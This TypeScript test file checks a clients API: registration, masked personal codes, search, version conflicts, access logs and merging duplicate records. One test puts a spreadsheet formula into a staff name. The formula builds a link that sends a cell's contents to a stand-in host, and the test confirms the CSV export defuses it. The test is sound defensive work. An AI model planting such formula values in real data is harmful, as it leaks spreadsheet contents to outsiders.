import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TClient, TClientPage } from '../../../contracts/clients.contracts';
import type { TRequestPage } from '../../../contracts/requests.contracts';
import { systemContext } from '../../http/access';
import {
  call,
  createContact,
  createPerson,
  createTestApp,
  createUnit,
  fieldErrorsOf,
  problemOf,
  signedIn,
  uniquePersonalCode,
  type Session,
  type TestApp,
} from '../../testing/test-app';

const ctx = systemContext('clients-test');
const unique = () => randomBytes(3).toString('hex');

describe('clients', () => {
  let test: TestApp;
  let clerk: Session;
  beforeAll(async () => {
    test = await createTestApp();
    clerk = await signedIn(test, { unitIds: [(await createUnit(test.services)).id] });
  });
  afterAll(() => test.close());

  const registerClient = (body: Record<string, unknown>, session = clerk) =>
    call(test.app, session, { method: 'POST', url: '/api/v1/clients', payload: body });

  const find = async (q: string) => {
    const response = await call(test.app, clerk, {
      method: 'GET',
      url: `/api/v1/clients?q=${encodeURIComponent(q)}`,
    });
    expect(response.statusCode, response.body).toBe(200);
    return response.json<TClientPage>();
  };

  it('registers a person with a personal code, stored normalised and masked in lists', async () => {
    const code = uniquePersonalCode();
    const typed = code.replace('-', '');
    const surname = `Bērziņš-${unique()}`;

    const response = await registerClient({
      kind: 'person',
      givenName: 'Jānis',
      surname,
      personalCode: typed,
      phone: '+371 26123456',
      email: 'janis.berzins@example.lv',
      preferredLanguage: 'lv',
    });

    expect(response.statusCode, response.body).toBe(201);
    expect(response.json()).toMatchObject({ personalCode: code, displayName: `Jānis ${surname}` });
    const page = await find(surname);
    expect(page.items).toEqual([
      expect.objectContaining({ personalCodeMasked: `${code.slice(0, 6)}-*****` }),
    ]);
    expect(JSON.stringify(page)).not.toContain(code.slice(7));
  });

  it('accepts the new form of personal code, with or without the hyphen', async () => {
    const code = uniquePersonalCode('new');
    const response = await registerClient({
      kind: 'person',
      givenName: 'Marta',
      surname: 'Jaunā',
      personalCode: code,
    });
    expect(response.statusCode, response.body).toBe(201);
    expect(response.json<TClient>().personalCode).toBe(`${code.slice(0, 6)}-${code.slice(6)}`);
  });

  it('refuses a second client with the same personal code', async () => {
    const code = uniquePersonalCode();
    await registerClient({
      kind: 'person',
      givenName: 'A',
      surname: 'Pirmais',
      personalCode: code,
    });
    const response = await registerClient({
      kind: 'person',
      givenName: 'B',
      surname: 'Otrais',
      personalCode: code,
    });
    expect(response.statusCode).toBe(400);
    expect(fieldErrorsOf(response)).toEqual([
      { field: 'personalCode', code: 'personal_code_taken' },
    ]);
  });

  it('finds a client by name without diacritics, by phone, by personal code and by email', async () => {
    const code = uniquePersonalCode();
    const surname = `Šķēle${unique()}`;
    const tag = unique();
    const created = (
      await registerClient({
        kind: 'person',
        givenName: 'Ērika',
        surname,
        personalCode: code,
        phone: '+371 29876543',
        email: `erika.${tag}@example.lv`,
      })
    ).json<TClient>();
    const folded = surname.replace('Š', 's').replace('ķ', 'k').replace('ē', 'e');

    expect((await find(`erika ${folded}`)).items.map((c) => c.id)).toEqual([created.id]);
    expect((await find(code)).items.map((c) => c.id)).toEqual([created.id]);
    expect((await find(code.replace('-', ''))).items.map((c) => c.id)).toEqual([created.id]);
    expect((await find(`29876543 ${folded}`)).items.map((c) => c.id)).toEqual([created.id]);
    expect((await find(`erika.${tag}@example.lv`)).items.map((c) => c.id)).toEqual([created.id]);
  });

  it('registers an organisation and a colleague as an internal client', async () => {
    const colleague = await createPerson(test.services);
    const organisation = await registerClient({
      kind: 'organisation',
      name: `SIA Priedaines ūdens ${unique()}`,
      registrationNumber: '40003012345',
    });
    const internal = await registerClient({ kind: 'internal', staffId: colleague.id });

    expect(organisation.statusCode, organisation.body).toBe(201);
    expect(organisation.json()).toMatchObject({
      kind: 'organisation',
      registrationNumber: '40003012345',
    });
    expect(internal.statusCode, internal.body).toBe(201);
    expect(internal.json()).toMatchObject({
      kind: 'internal',
      staffId: colleague.id,
      displayName: `${colleague.givenName} ${colleague.surname}`,
    });
  });

  it('refuses the second of two clerks saving the same version', async () => {
    const client = await test.services.clients.create(ctx, {
      kind: 'person',
      givenName: 'Inese',
      surname: 'Vītola',
    });
    const save = (phone: string) =>
      call(test.app, clerk, {
        method: 'PATCH',
        url: `/api/v1/clients/${client.id}`,
        payload: { phone, version: client.version },
      });
    expect((await save('+371 20000001')).statusCode).toBe(200);
    const second = await save('+371 20000002');
    expect(second.statusCode).toBe(409);
    expect(problemOf(second).code).toBe('version_conflict');
  });

  it('records who opened a client record', async () => {
    const client = await test.services.clients.create(ctx, {
      kind: 'person',
      givenName: 'Dace',
      surname: 'Lapiņa',
    });
    await call(test.app, clerk, { method: 'GET', url: `/api/v1/clients/${client.id}` });

    const log = await test.services.clients.accessLog(ctx, client.id);
    expect(log.entries).toEqual([
      expect.objectContaining({ staffId: clerk.person.id, requestNumber: null }),
    ]);
  });

  it('names the system token a look came through in the access log and its CSV', async () => {
    const client = await test.services.clients.create(ctx, {
      kind: 'person',
      givenName: 'Rita',
      surname: 'Kalna',
    });
    const name = `Tālruņu centrāle ${unique()}`;
    const { token } = await test.services.tokens.create(ctx, { name, roles: ['auditor'] });
    const read = await test.app.inject({
      method: 'GET',
      url: `/api/v1/clients/${client.id}`,
      headers: { authorization: `Bearer ${token}` },
    });
    expect(read.statusCode, read.body).toBe(200);

    const head = await signedIn(test, { roles: ['client_service_head'] });
    const log = await call(test.app, head, {
      method: 'GET',
      url: `/api/v1/clients/${client.id}/access-log?format=json`,
    });
    expect(log.json()).toMatchObject({
      entries: [{ staffId: null, staffName: null, tokenName: name }],
    });
    const csv = await call(test.app, head, {
      method: 'GET',
      url: `/api/v1/clients/${client.id}/access-log?format=csv`,
    });
    expect(csv.body).toContain(`,${name},`);
  });

  describe('merging duplicates', () => {
    it('moves the duplicate’s requests to the record that stays, and hides the duplicate', async () => {
      const head = await signedIn(test, { roles: ['client_service_head'] });
      const unit = await createUnit(test.services);
      const surname = `Dubults${unique()}`;
      const kept = await test.services.clients.create(ctx, {
        kind: 'person',
        givenName: 'Kārlis',
        surname,
        personalCode: uniquePersonalCode(),
      });
      const duplicate = await test.services.clients.create(ctx, {
        kind: 'person',
        givenName: 'Karlis',
        surname,
      });
      await createContact(test.services, unit.id, { clientId: duplicate.id, services: ['Viens'] });

      const merged = await call(test.app, head, {
        method: 'POST',
        url: `/api/v1/clients/${duplicate.id}/merge`,
        payload: { intoId: kept.id, version: duplicate.version },
      });

      expect(merged.statusCode, merged.body).toBe(200);
      expect(merged.json()).toMatchObject({ id: kept.id });
      const requests = await call(test.app, head, {
        method: 'GET',
        url: `/api/v1/requests?list=all&clientId=${kept.id}`,
      });
      expect(requests.json<TRequestPage>().items.map((r) => r.service)).toEqual(['Viens']);
      expect((await find(surname)).items.map((c) => c.id)).toEqual([kept.id]);
    });

    it('keeps the looks at the duplicate in the access log of the record that stays', async () => {
      const head = await signedIn(test, { roles: ['client_service_head'] });
      const [kept, duplicate] = [
        await test.services.clients.create(ctx, { kind: 'person', givenName: 'Ede', surname: 'A' }),
        await test.services.clients.create(ctx, { kind: 'person', givenName: 'Ede', surname: 'A' }),
      ];
      await call(test.app, clerk, { method: 'GET', url: `/api/v1/clients/${duplicate.id}` });
      await test.services.clients.merge(ctx, duplicate.id, {
        intoId: kept.id,
        version: duplicate.version,
      });

      const log = await call(test.app, head, {
        method: 'GET',
        url: `/api/v1/clients/${kept.id}/access-log?format=json`,
      });
      expect(log.json()).toMatchObject({
        entries: [expect.objectContaining({ staffId: clerk.person.id })],
      });
    });

    it('gives the access log as CSV in which a name cannot run as a spreadsheet formula', async () => {
      const head = await signedIn(test, { roles: ['client_service_head'] });
      const unit = await createUnit(test.services);
      const looker = await signedIn(test, {
        unitIds: [unit.id],
        givenName: '=HYPERLINK("http://x.example/?"&A1',
        surname: '"Klikšķini")',
      });
      const client = await test.services.clients.create(ctx, {
        kind: 'person',
        givenName: 'Ilze',
        surname: `Formula${unique()}`,
      });
      await call(test.app, looker, { method: 'GET', url: `/api/v1/clients/${client.id}` });

      const csv = await call(test.app, head, {
        method: 'GET',
        url: `/api/v1/clients/${client.id}/access-log?format=csv`,
      });

      expect(csv.statusCode, csv.body).toBe(200);
      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
      const [header, line, end] = csv.body.split('\r\n');
      expect(header).toBe('at,staff,token,request');
      expect(line).toMatch(
        /^\d{4}-\d\d-\d\dT[\d:.]+Z,"'=HYPERLINK\(""http:\/\/x\.example\/\?""&A1 ""Klikšķini""\)",,$/,
      );
      expect(end).toBe('');
    });

    it('refuses to merge a person into an organisation', async () => {
      const head = await signedIn(test, { roles: ['client_service_head'] });
      const person = await test.services.clients.create(ctx, {
        kind: 'person',
        givenName: 'Olga',
        surname: 'Roze',
      });
      const organisation = await test.services.clients.create(ctx, {
        kind: 'organisation',
        name: `Biedrība ${unique()}`,
      });
      const response = await call(test.app, head, {
        method: 'POST',
        url: `/api/v1/clients/${person.id}/merge`,
        payload: { intoId: organisation.id, version: person.version },
      });
      expect(fieldErrorsOf(response)).toEqual([{ field: 'intoId', code: 'merge_other_kind' }]);
    });

    it('refuses to merge a client into itself, and refuses a specialist', async () => {
      const head = await signedIn(test, { roles: ['client_service_head'] });
      const client = await test.services.clients.create(ctx, {
        kind: 'person',
        givenName: 'Viens',
        surname: 'Vienīgais',
      });
      const self = await call(test.app, head, {
        method: 'POST',
        url: `/api/v1/clients/${client.id}/merge`,
        payload: { intoId: client.id, version: client.version },
      });
      expect(fieldErrorsOf(self)).toEqual([{ field: 'intoId', code: 'merge_into_itself' }]);

      const bySpecialist = await call(test.app, clerk, {
        method: 'POST',
        url: `/api/v1/clients/${client.id}/merge`,
        payload: { intoId: client.id, version: client.version },
      });
      expect(bySpecialist.statusCode).toBe(403);
    });
  });
});
